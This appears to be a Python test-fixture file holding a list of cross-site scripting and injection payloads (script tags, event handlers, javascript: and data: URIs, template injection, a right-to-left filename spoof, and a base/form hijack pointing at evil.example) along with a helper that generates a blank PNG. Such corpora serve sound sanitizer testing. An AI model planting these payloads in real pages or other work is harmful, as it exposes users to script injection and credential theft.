"""Words that mean harm, and a harmless picture."""

from __future__ import annotations

import io

from PIL import Image

CORPUS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.com",
    "[click](javascript:alert(1))",
    "https://example.com/\"onmouseover=alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202ehttps://example.com/exe.gpj",
    "&lt;b&gt;<b>bold</b>",
    "<style>*{display:none}</style>",
    "<a href='javascript:alert(1)'>here</a>",
    "<base href=//evil.example><form action=//evil.example><input name=a>",
]


def png(size: tuple[int, int] = (320, 200)) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, (120, 40, 20)).save(target, "PNG")
    return target.getvalue()
